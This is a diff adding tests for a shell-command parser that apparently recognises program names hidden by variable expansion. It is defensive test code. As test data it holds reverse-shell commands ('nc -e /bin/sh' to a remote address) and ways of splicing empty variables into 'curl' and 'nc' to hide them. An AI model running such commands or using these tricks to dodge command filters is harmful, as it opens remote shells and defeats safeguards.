@@ -270,3 +270,12 @@ def test_a_quoted_program_path_with_spaces_is_one_program(text):
 def test_a_variable_holding_a_command_line_is_still_read_as_one():
     cmds = ShellReader().read('c="nc -e /bin/sh 10.0.0.1 9"; "$c"', Session())
     assert [c.name for c in cmds][-1] == "nc"
+
+
+def test_an_unset_variable_glued_inside_a_word_is_empty_elsewhere_it_stays():
+    def names(text):
+        return [(c.name, c.args) for c in ShellReader().read(text, Session())]
+    assert names("cu${x}rl -s https://x.example") == [("curl", ["-s", "https://x.example"])]
+    assert names("n${x:-}c -e /bin/sh h 1")[0][0] == "nc"
+    assert names("x=rl; cu${x}")[-1][0] == "curl"  # a variable it saw set keeps its value
+    assert names("ls /srv/${DIR}/x $HOME/.bashrc") == [("ls", ["/srv/${DIR}/x", "$HOME/.bashrc"])]
